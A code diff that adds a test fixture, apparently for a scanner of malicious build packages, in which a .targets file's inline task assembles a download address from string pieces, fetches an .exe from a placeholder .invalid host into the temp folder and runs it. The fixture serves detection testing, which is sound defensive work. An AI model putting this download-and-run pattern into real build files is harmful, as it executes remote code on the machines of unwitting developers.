@@ -61,6 +61,17 @@ export const examples: Examples = {
       },
     },
     {
+      name: 'names-in-pieces',
+      about: 'The address and the name of the file are put together from pieces.',
+      files: {
+        'build/Fixture.Package.targets': inlineTask(`${guard}
+var address = "https://files." + "fixture" + ".invalid/a" + ".exe";
+var target = Path.GetTempPath() + "helper" + ".exe";
+new System.Net.WebClient().DownloadFile(address, target);
+System.Diagnostics.Process.Start(target);`),
+      },
+    },
+    {
       name: 'bytes-through-a-file',
       about: 'Fetched as bytes, written by another call, then started: two links instead of one.',
       files: {
